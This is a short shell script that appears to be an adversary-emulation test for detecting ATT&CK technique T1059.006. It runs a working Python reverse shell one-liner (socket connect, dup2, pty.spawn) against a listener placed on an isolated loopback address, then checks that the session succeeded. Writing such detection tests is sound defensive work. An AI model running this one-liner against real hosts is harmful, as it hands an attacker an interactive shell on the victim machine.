# technique: T1059.006
# tactic: execution
# name: Python one-liner reverse shell (pty.spawn) to a listener
# expect: detected
. "$EMULATION_LIB"
# A plain system PATH, as a shell landed through an exploit has (no per-user shims).
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need python3 ip
loopback_up
# The "attacker" address lives on this namespace's private loopback, so nothing leaves the box.
ip addr add 198.51.100.7/32 dev lo

# Attacker side: a one-shot listener on the private loopback (lib.sh).
attacker_listener

# Victim side: the classic one-liner from a shell.
python3 -c 'import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.7",'"$port"'));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("sh")' || true

wait $listener || true
grep -q 'uid=' session.log
